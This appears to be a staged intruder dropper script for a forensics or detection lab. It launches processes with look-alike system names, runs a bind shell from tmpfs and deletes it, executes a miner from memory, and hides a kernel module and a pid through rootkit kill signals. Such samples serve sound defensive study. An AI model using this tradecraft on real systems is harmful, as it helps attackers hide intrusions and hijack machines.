#!/bin/sh
# The intruder's dropper (planted; /var/lib/.pkg/install.sh). Starts the
# masquerading programs at different times, so their pids are spread, then
# the miner from a memfd; hides the module and the miner through the
# rootkit's kill(2) channel (signal 63 to pid 1, signal 62 to a pid).
# Booted with sampmode=live it stops before the hiding step.
P=/var/lib/.pkg
spread() { i=0; while [ $i -lt $1 ]; do /bin/true; i=$((i+1)); done; }
sleep 3
$P/shim sysl0gd
spread 12
$P/shim dbus-daemom
spread 20
/lib/x86_64-linux-gnu/.kswapd0
spread 8
$P/shim sysl0gd
$P/shim udhcpcd
spread 25
# a bind shell run from tmpfs and deleted at once
mkdir -p /dev/shm/.x
cp $P/bd /dev/shm/.x/updatedb
/dev/shm/.x/updatedb
sleep 1
rm -rf /dev/shm/.x
spread 15
$P/shim dbus-daemom
spread 10
$P/shim sysl0gd
spread 20
# the miner, executed from a memfd; its file on disk is removed too
$P/memexec $P/.m udev /lib/systemd/systemd-udevd --daemon
sleep 2
rm -f $P/.m
sleep 2
echo "SAMPLE-BOOT: ready"
ps -o pid,ppid,comm,args > /run/ps.boot
cat /run/ps.boot
if grep -q sampmode=live /proc/cmdline; then
	echo "SAMPLE-BOOT: live mode, not hiding"
	exit 0
fi
kill -63 1
sleep 2
grep -q '^tpm_crb_ext ' /proc/modules || echo "SAMPLE-BOOT: module gone from /proc/modules"
[ -d /sys/module/tpm_crb_ext ] || echo "SAMPLE-BOOT: module gone from /sys/module"
echo "SAMPLE-BOOT: hiding pid $(cat /run/.udevd.pid)"
kill -62 "$(cat /run/.udevd.pid)"
